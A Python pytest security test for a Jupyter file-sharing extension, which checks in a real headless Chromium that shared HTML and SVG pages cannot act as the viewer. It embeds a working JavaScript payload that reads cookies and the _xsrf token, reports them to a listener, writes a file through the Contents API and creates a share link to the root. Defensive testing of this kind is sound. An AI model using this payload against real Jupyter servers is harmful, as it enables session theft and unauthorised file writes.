"""A shared page cannot act as the person who opens it, in a real browser.

Debian's Chromium, driven over the DevTools protocol, logs in to a real Jupyter server
with the extension (so it holds Jupyter's login and `_xsrf` cookies), then opens a data
link's HTML page and SVG image, through the share route and the S3 route. Their script
tries what an attacker's would: read `document.cookie`, write a file through the
Contents API and create a link to the whole root, reporting each step to a listener on
another port. A control page with the same script, served by the listener, proves that
the script runs and its reports arrive; the shared copies must report nothing, write
nothing and create nothing. Runs where Chromium is installed (the test command installs
it); skips elsewhere.
"""

from __future__ import annotations

import asyncio
import getpass
import json
import os
import shutil
import signal
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from tornado.httpserver import HTTPServer
from tornado.testing import bind_unused_port
from tornado.web import Application, RequestHandler
from tornado.websocket import WebSocketClientConnection, websocket_connect

CHROMIUM = os.environ.get("FILEGLANCER_CHROMIUM") or shutil.which("chromium")

pytestmark = pytest.mark.skipif(not CHROMIUM, reason="needs Chromium (apt-get install chromium)")

# What a page in a share could do with the cookies of the person who opens it.
ATTACK = """
(async () => {
  const report = (kind, value) => fetch(
    `LISTENER/report?kind=${kind}&page=${encodeURIComponent(location.pathname)}` +
      `&value=${encodeURIComponent(value)}`,
    {mode: "no-cors"});
  let cookie;
  try { cookie = document.cookie; } catch (err) { cookie = `unreadable: ${err.name}`; }
  await report("cookie", cookie);
  const xsrf = decodeURIComponent((cookie.match(/(?:^|; )_xsrf=([^;]*)/) || ["", ""])[1]);
  const base = location.pathname.split("fileglancer/")[0];
  const headers = {"X-XSRFToken": xsrf, "Content-Type": "application/json"};
  const send = (method, path, body) => fetch(base + path, {
    method, headers, credentials: "same-origin", body: JSON.stringify(body),
  }).then((answer) => answer.status, (err) => err.name);
  const written = await send(
    "PUT", "api/contents/pwned.txt", {type: "file", format: "text", content: "pwned"});
  const linked = await send("POST", "fileglancer/api/links", {root: "lab", path: ""});
  await report("done", `${written} ${linked}`);
})();
"""


def attack_html(listener: str) -> str:
    script = ATTACK.replace("LISTENER", listener)
    return f"<!doctype html><html><body><p>shared page</p><script>{script}</script></body></html>"


def attack_svg(listener: str) -> str:
    script = ATTACK.replace("LISTENER", listener)
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        f"<script><![CDATA[{script}]]></script></svg>"
    )


class Listener:
    """Collects the reports of pages (any origin may send them) and serves the control."""

    def __init__(self) -> None:
        self.reports: list[dict[str, str]] = []
        sock, self.port = bind_unused_port()
        listener = self

        class Report(RequestHandler):
            def get(self) -> None:
                names = ("kind", "page", "value")
                listener.reports.append({n: self.get_query_argument(n, "") for n in names})

        class Control(RequestHandler):
            def get(self) -> None:
                self.set_header("Content-Type", "text/html")
                self.finish(attack_html(listener.url))

        self.server = HTTPServer(Application([("/report", Report), ("/control", Control)]))
        self.server.add_socket(sock)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def from_page(self, fragment: str) -> list[dict[str, str]]:
        return [report for report in self.reports if fragment in report["page"]]


class DevTools:
    """A minimal client of Chromium's DevTools protocol: one page, flat sessions."""

    def __init__(self, connection: WebSocketClientConnection, session: str) -> None:
        self.connection = connection
        self.session = session
        self.events: list[dict[str, Any]] = []
        self._next_id = 0

    @classmethod
    async def attach(cls, browser_url: str) -> DevTools:
        connection = await websocket_connect(browser_url)
        tools = cls(connection, "")
        targets = await tools.send("Target.getTargets", browser=True)
        page = next(t for t in targets["targetInfos"] if t["type"] == "page")
        attached = await tools.send(
            "Target.attachToTarget", browser=True, targetId=page["targetId"], flatten=True
        )
        tools.session = attached["sessionId"]
        # Downloads are refused, but announced: a file a browser would not render.
        await tools.send(
            "Browser.setDownloadBehavior", browser=True, behavior="deny", eventsEnabled=True
        )
        await tools.send("Page.enable")
        return tools

    async def send(self, method: str, *, browser: bool = False, **params: Any) -> Any:
        self._next_id += 1
        message: dict[str, Any] = {"id": self._next_id, "method": method, "params": params}
        if not browser:
            message["sessionId"] = self.session
        await self.connection.write_message(json.dumps(message))
        while True:
            answer = json.loads(await asyncio.wait_for(self._read(), 30))
            if answer.get("id") == self._next_id:
                assert "error" not in answer, answer
                return answer["result"]
            self.events.append(answer)

    async def until(self, done: Callable[[], bool], timeout: float) -> bool:
        """Read events until `done()` holds or `timeout` seconds pass; whether it held."""
        deadline = time.monotonic() + timeout
        while not done():
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            try:
                self.events.append(json.loads(await asyncio.wait_for(self._read(), left)))
            except TimeoutError:
                return done()
        return True

    def saw(self, method: str) -> bool:
        return any(event.get("method") == method for event in self.events)

    async def _read(self) -> str:
        message = await self.connection.read_message()
        assert message is not None, "the browser closed the DevTools connection"
        return message if isinstance(message, str) else message.decode()


@pytest.fixture
def listener(jp_asyncio_loop) -> Iterator[Listener]:
    async def start() -> Listener:  # on the loop that runs the test and the server
        return Listener()

    listening = jp_asyncio_loop.run_until_complete(start())
    yield listening
    listening.server.stop()


@pytest.fixture
def browser(tmp_path: Path, jp_asyncio_loop) -> Iterator[DevTools]:
    profile = tmp_path / "chromium-profile"
    process = subprocess.Popen(
        [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
         "--no-default-browser-check", f"--user-data-dir={profile}",
         "--remote-debugging-port=0", "about:blank"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )  # fmt: skip
    try:
        # Chromium writes its port and the browser's DevTools path here once it listens.
        active_port = profile / "DevToolsActivePort"
        for _ in range(300):
            if active_port.exists() and len(active_port.read_text().splitlines()) == 2:
                break
            time.sleep(0.1)
        port, path = active_port.read_text().splitlines()
        tools = jp_asyncio_loop.run_until_complete(DevTools.attach(f"ws://127.0.0.1:{port}{path}"))
        yield tools
        tools.connection.close()
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()


async def open_page(browser: DevTools, url: str) -> None:
    """Navigate, and wait until the page loaded or the browser turned it into a download."""
    browser.events.clear()
    await browser.send("Page.navigate", url=url)
    loaded = await browser.until(
        lambda: browser.saw("Page.loadEventFired") or browser.saw("Browser.downloadWillBegin"),
        timeout=20,
    )
    assert loaded, f"{url} neither loaded nor downloaded"


async def test_a_shared_page_cannot_read_cookies_or_call_the_api(
    browser, listener, jp_serverapp, http_server, jp_http_port, jp_base_url, jp_root_dir,
    share_tree, token, other_store,
):  # fmt: skip
    (share_tree["data"] / "attack.html").write_text(attack_html(listener.url))
    (share_tree["data"] / "attack.svg").write_text(attack_svg(listener.url))
    server = f"http://127.0.0.1:{jp_http_port}{jp_base_url}"
    jupyter_token = jp_serverapp.identity_provider.token

    # Log in with the form, as a person would: Jupyter's login and _xsrf cookies.
    await open_page(browser, f"{server}login")
    browser.events.clear()
    await browser.send(
        "Runtime.evaluate",
        expression=(
            f"document.querySelector('input[name=password]').value = {json.dumps(jupyter_token)};"
            "document.querySelector('form').submit();"
        ),
    )
    assert await browser.until(lambda: browser.saw("Page.loadEventFired"), timeout=20)
    cookies = await browser.send("Network.getCookies", urls=[server])
    names = {cookie["name"] for cookie in cookies["cookies"]}
    assert "_xsrf" in names and any(name.startswith("username-") for name in names), names

    # The control: the same script, on the listener's page, runs and reports.
    await open_page(browser, f"{listener.url}/control")
    assert await browser.until(lambda: bool(listener.from_page("/control")), timeout=10)
    assert await browser.until(
        lambda: any(r["kind"] == "done" for r in listener.from_page("/control")), timeout=10
    )

    shared = [
        f"{server}fileglancer/s/{token}/attack.html",
        f"{server}fileglancer/s/{token}/attack.svg",
        f"{server}fileglancer/s3/{token}/attack.html",
        f"{server}fileglancer/s3/{token}/attack.svg",
    ]
    for url in shared:
        await open_page(browser, url)
        # The attack's script needs milliseconds; give it time all the same.
        await browser.until(lambda: False, timeout=2)
        page = url.split(jp_base_url, 1)[1]
        assert listener.from_page(page) == [], f"a script of {page} ran: {listener.reports}"
        assert browser.saw("Browser.downloadWillBegin"), f"{page} was rendered, not downloaded"

    assert not (jp_root_dir / "pwned.txt").exists()
    links = other_store.list_for_owner(getpass.getuser())
    assert [link.token for link in links] == [token]
